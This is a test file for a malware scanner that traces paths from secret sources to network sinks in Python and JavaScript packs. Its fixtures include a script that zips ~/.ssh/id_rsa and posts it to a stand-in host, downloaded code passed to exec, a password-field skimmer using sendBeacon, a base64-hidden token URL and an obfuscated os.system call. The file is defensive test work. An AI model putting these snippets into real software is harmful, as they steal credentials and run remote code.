import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { filesOfRecord } from '../../archive/pack-files.ts'
import { type Finding, isBlocking, type PathStep } from '../../ground/finding.ts'
import { inspectPack } from '../../inspection/inspect.ts'
import { testParser } from '../../python/parser.test-support.ts'
import { generatePairs, type Pair } from '../model/pairs.test-support.ts'
import { rules } from '../scan-files.ts'
import { originsOfRules } from './nouns.ts'

const parser = await testParser()
const findingsOf = async (files: Readonly<Record<string, string>>) =>
  (await inspectPack(filesOfRecord(files), parser)).findings

async function pathOf(rule: string, files: Readonly<Record<string, string>>): Promise<string[]> {
  const found = (await findingsOf(files)).find((one) => one.rule === rule)
  return (found?.path ?? []).map(
    ({ file, line, kind, noun, detail }) =>
      `${kind} ${noun} ${file}:${line}${detail === undefined ? '' : ` ${detail}`}`,
  )
}

describe('the path of a finding', () => {
  it('leads from the place of a key through an archive to a request', async () => {
    const text = `import os, io, zipfile, requests
where = os.path.expanduser("~/.ssh/id_rsa")

def pack():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.write(where)
    return buffer.getvalue()

data = pack()
requests.post("https://collect.example/u", data=data)
`
    assert.deepEqual(await pathOf('credentials-sent', { 'nodes.py': text }), [
      'source stored_credentials nodes.py:2 ~/.ssh/id_rsa',
      'carrier file nodes.py:7 write',
      'hides archive nodes.py:8 getvalue',
      'carrier function nodes.py:10 pack',
      'sink request nodes.py:11 collect.example',
    ])
  })

  it('crosses files', async () => {
    const files = {
      '__init__.py': 'from .remote import run\nfrom .fetch import get\nrun(get())\n',
      'fetch.py': 'import requests\ndef get():\n    return requests.get("https://a.example/c").text\n',
      'remote.py': 'def run(code):\n    exec(code)\n',
    }
    assert.deepEqual(await pathOf('downloaded-code', files), [
      'source network_data fetch.py:3 a.example',
      'carrier function __init__.py:3 get',
      'sink code remote.py:2 exec',
    ])
  })

  it('names the password field of a page', async () => {
    const text = `const field = document.querySelector("input[type=password]")
field.addEventListener("input", (event) => {
  const typed = event.target.value
  navigator.sendBeacon("https://a.example/p", typed)
})
`
    const [source, ...rest] = await pathOf('page-data-sent', {
      '__init__.py': 'WEB_DIRECTORY = "./web"\n',
      'web/a.js': text,
    })
    assert.match(source ?? '', /^source (password_field|typed_text) web\/a\.js:2/)
    assert.deepEqual(rest.at(-1), 'sink request web/a.js:4 a.example')
  })

  it('has at most 8 steps, and says how many are left out in the middle', async () => {
    const hops = Array.from({ length: 20 }, (_, i) => `v${i + 1} = v${i}`).join('\n')
    const text = `import requests\nv0 = requests.get("https://a.example/c").text\n${hops}\nexec(v20)\n`
    const findings = await findingsOf({ 'nodes.py': text })
    const { path = [] } = findings.find(({ rule }) => rule === 'downloaded-code') as Finding
    assert.equal(path.length, 8)
    assert.equal(path[0]?.line, 2)
    assert.equal(path.at(-1)?.line, 23)
    assert.deepEqual(
      path.map((step) => step.left_out),
      [undefined, undefined, undefined, undefined, 14, undefined, undefined, undefined],
    )
  })

  it('shows names of packs without control characters, shortened, and no keys', async () => {
    const path = `~/.ssh/${'\\u202e'}${'\\x1b[31m'}${'a'.repeat(20)}/${'b'.repeat(20)}/${'c'.repeat(20)}`
    const text = `import os, requests\nkey = os.path.expanduser("${path}")\nrequests.post("https://a.example", data=open(key).read())\n`
    const shown = (await pathOf('credentials-sent', { 'nodes.py': text }))[0] ?? ''
    assert.doesNotMatch(shown, /[\u202e\u001b]/)
    assert.match(shown, /^source stored_credentials nodes\.py:2 ~\/\.ssh\/.{10,60}…$/)
    const token = `ghp_${'a1B2'.repeat(9)}`
    const sent = `import base64, requests\nrequests.post(base64.b64decode("${btoa(`https://a.example/${token}`)}").decode(), data=x)\n`
    for (const { path = [] } of await findingsOf({ 'nodes.py': sent }))
      for (const { detail = '' } of path) assert.ok(detail.length < 32, detail)
  })

  it('is missing where one place says it all', async () => {
    assert.deepEqual(await pathOf('hidden-call', { 'nodes.py': 'getattr(os, "sys" + "tem")("ls")' }), [])
  })
})

describe('the tables of paths', () => {
  it('name rules that exist', () => {
    const ids = rules.map(({ id }) => id)
    assert.deepEqual(
      Object.keys(originsOfRules).filter((id) => !ids.includes(id)),
      [],
    )
  })
})

/** Held attacks whose path begins in the statements of the source and ends in those of the sink. */
const level = { python: 29, javascript: 39 }

describe('the paths of generated attacks', () => {
  const isIn = ({ attack }: Pair, step: PathStep | undefined, lines: readonly string[]) => {
    const line = attack[step?.file ?? '']?.split('\n')[(step?.line ?? 0) - 1]?.trim() ?? ''
    return lines.some((one) => one !== '' && line.includes(one))
  }
  for (const language of ['python', 'javascript'] as const)
    it(`lead from the source to the sink: ${language}`, async () => {
      const pairs = generatePairs({ seed: 49, count: 200 }).filter((pair) => pair.language === language)
      let [held, right] = [0, 0]
      for (const pair of pairs) {
        if (held === 40) break
        const blocking = (await findingsOf(pair.attack)).filter(isBlocking)
        if (blocking.length === 0) continue
        held++
        const isRight = ({ path }: Finding) =>
          isIn(pair, path?.[0], pair.ends.source) && isIn(pair, path?.at(-1), pair.ends.sink)
        if (blocking.some(isRight)) right++
      }
      assert.equal(held, 40)
      assert.ok(right >= level[language], `${right} of ${held}`)
    })
})
